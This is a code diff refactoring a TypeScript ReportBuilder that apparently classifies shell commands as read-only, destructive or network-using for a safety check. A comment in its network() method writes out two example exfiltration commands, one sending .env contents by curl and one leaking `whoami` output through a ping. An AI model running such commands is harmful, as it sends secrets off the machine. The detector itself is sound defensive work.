@@ -417,6 +417,13 @@ function short(text: string): string {
  */
 const NONE: readonly never[] = Object.freeze([]);
 
+/** Appends to a list made on first use. */
+function push<T>(list: T[] | undefined, item: T): T[] {
+  if (list === undefined) return [item];
+  list.push(item);
+  return list;
+}
+
 class ReportBuilder {
   private reads: Word[] | undefined;
   private trees: { root: Word; how: TreeRead }[] | undefined;
@@ -449,29 +456,29 @@ class ReportBuilder {
   }
 
   read(target: Word): void {
-    (this.reads ??= []).push(target);
+    this.reads = push(this.reads, target);
   }
 
   readTree(root: Word, how: TreeRead): void {
-    (this.reads ??= []).push(root);
-    (this.trees ??= []).push({ root, how });
+    this.reads = push(this.reads, root);
+    this.trees = push(this.trees, { root, how });
   }
 
   write(target: Word, how: WriteHow, why: string, viaRedirect = false): void {
-    (this.writes ??= []).push({ target, how, viaRedirect });
-    (this.notRO ??= []).push(why);
-    if (how === 'overwrite' || how === 'modify') (this.destructive ??= []).push(why);
+    this.writes = push(this.writes, { target, how, viaRedirect });
+    this.notRO = push(this.notRO, why);
+    if (how === 'overwrite' || how === 'modify') this.destructive = push(this.destructive, why);
   }
 
   remove(target: Word, why: string): void {
-    (this.removes ??= []).push(target);
-    (this.notRO ??= []).push(why);
-    (this.destructive ??= []).push(why);
+    this.removes = push(this.removes, target);
+    this.notRO = push(this.notRO, why);
+    this.destructive = push(this.destructive, why);
   }
 
   opaque(why: string): void {
-    (this.notRO ??= []).push(why);
-    (this.destructive ??= []).push(why);
+    this.notRO = push(this.notRO, why);
+    this.destructive = push(this.destructive, why);
   }
 
   runsStdin(why: string): void {
@@ -482,34 +489,34 @@ class ReportBuilder {
   /** Runs code that exists only at run time: nothing about it can be checked. */
   unknownCode(why: string): void {
     this.opaque(why);
-    (this.unknown ??= []).push(why);
+    this.unknown = push(this.unknown, why);
   }
 
   network(why: string, sends: boolean): void {
     this.usesNetwork = true;
-    (this.notRO ??= []).push(why);
-    if (sends) (this.destructive ??= []).push(why);
+    this.notRO = push(this.notRO, why);
+    if (sends) this.destructive = push(this.destructive, why);
     else if (this.argv.some((w) => w.expansions.includes('command'))) {
       // `curl "https://x/?d=$(cat .env)"`, `ping "$(whoami).evil"`: command output leaves the machine.
-      (this.destructive ??= []).push(`${why}, carrying command output in its arguments`);
+      this.destructive = push(this.destructive, `${why}, carrying command output in its arguments`);
     }
   }
 
   destination(host: Word): void {
-    (this.hosts ??= []).push(host);
+    this.hosts = push(this.hosts, host);
   }
 
   change(why: string, destructive: boolean): void {
-    (this.notRO ??= []).push(why);
-    if (destructive) (this.destructive ??= []).push(why);
+    this.notRO = push(this.notRO, why);
+    if (destructive) this.destructive = push(this.destructive, why);
   }
 
   notReadOnly(why: string): void {
-    (this.notRO ??= []).push(why);
+    this.notRO = push(this.notRO, why);
   }
 
   linger(why: string): void {
-    (this.lingering ??= []).push(why);
+    this.lingering = push(this.lingering, why);
   }
 
   transparent(): void {
@@ -517,7 +524,7 @@ class ReportBuilder {
   }
 
   env(name: string, value: Word): void {
-    (this.envs ??= []).push({ name, value });
+    this.envs = push(this.envs, { name, value });
   }
 
   build(): CommandReport {
